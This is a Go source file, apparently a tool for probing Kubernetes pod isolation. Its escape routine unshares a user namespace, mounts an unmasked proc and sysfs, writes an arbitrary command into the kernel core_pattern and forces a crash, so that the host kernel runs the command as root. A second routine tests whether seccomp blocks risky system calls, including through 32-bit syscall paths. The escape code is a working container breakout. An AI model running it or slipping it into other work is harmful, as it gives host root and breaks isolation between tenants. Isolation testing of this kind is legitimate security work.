package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"syscall"
	"time"
)

const (
	newUser      = syscall.CLONE_NEWUSER
	ioUringSetup = 425
	userfaultfd  = 323
	clone3       = 435
	x32          = 0x40000000
	afVsock      = 40
	afAlg        = 38
)

// escape attacks the host as root in a pod can: a user namespace of its own in which it mounts a
// /proc that is not masked. With COMMAND it has the kernel run that file as the host's root when a
// process dumps core.
func escape(command string) {
	inside := exec.Command("/proc/self/exe", "escape-inside", command)
	inside.Stdout, inside.Stderr = os.Stdout, os.Stderr
	inside.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  newUser | syscall.CLONE_NEWNS | syscall.CLONE_NEWPID,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	fmt.Println("user namespace:", word(inside.Run()))
}

// escapeInside is what runs in the new namespaces.
func escapeInside(command string) {
	dir, err := os.MkdirTemp("/tmp", "proc")
	check(err)
	for _, kind := range []string{"proc", "sysfs"} {
		fmt.Printf("mount %s: %s\n", kind, word(syscall.Mount(kind, dir, kind, 0, "")))
	}
	pattern, err := os.OpenFile(dir+"/sys/kernel/core_pattern", os.O_WRONLY, 0)
	fmt.Println("core_pattern:", word(err))
	if err != nil || command == "" {
		return
	}
	_, err = pattern.WriteString("|" + command)
	check(err)
	check(pattern.Close())
	crash := exec.Command("/proc/self/exe", "crash")
	crash.Env = []string{"GOTRACEBACK=crash"} // Go catches SIGSEGV, and ends by SIGABRT then
	crash.Run()
	time.Sleep(time.Second)
}

// tryCalls prints what each call that a pod's seccomp filter denies ends with. Where the filter
// lets one pass, it ends otherwise: unshare of a user namespace by a program of several threads
// with EINVAL, and so on.
func tryCalls() {
	call := func(name string, number, a, b uintptr) {
		fd, _, errno := syscall.RawSyscall(number, a, b, 0)
		if errno == 0 && name != "unshare" {
			syscall.Close(int(fd))
		}
		fmt.Println(name+":", word(result(errno)))
	}
	call("unshare", syscall.SYS_UNSHARE, newUser, 0)
	call("unshare-x32", syscall.SYS_UNSHARE|x32, newUser, 0)
	call("clone3", clone3, 0, 0)
	call("io_uring_setup", ioUringSetup, 0, 0)
	call("userfaultfd", userfaultfd, 1, 0)
	call("vsock", syscall.SYS_SOCKET, afVsock, syscall.SOCK_STREAM)
	call("alg", syscall.SYS_SOCKET, afAlg, syscall.SOCK_SEQPACKET)
	for _, c := range []struct {
		name   string
		number uint32
		a, b   uint32
	}{
		{"unshare-i386", 310, newUser, 0}, {"clone-i386", 120, newUser | uint32(syscall.SIGCHLD), 0},
		{"io_uring_setup-i386", ioUringSetup, 0, 0},
		{"userfaultfd-i386", 374, 1, 0}, {"vsock-i386", 359, afVsock, syscall.SOCK_STREAM},
		{"alg-i386", 359, afAlg, syscall.SOCK_SEQPACKET},
	} {
		r := int32(int80(c.number, c.a, c.b, 0, 0))
		if r == 0 && c.name == "clone-i386" {
			syscall.Exit(0)
		}
		fmt.Println(c.name+":", word(result(syscall.Errno(max(-r, 0)))))
	}
}

// int80 makes a system call as 32-bit programs do. It is in int80_amd64.s.
func int80(number, a, b, c, e uint32) uint32

func result(errno syscall.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}

func word(err error) string {
	var errno syscall.Errno
	switch {
	case err == nil:
		return "yes"
	case errors.As(err, &errno):
		return errno.Error()
	}
	return err.Error()
}
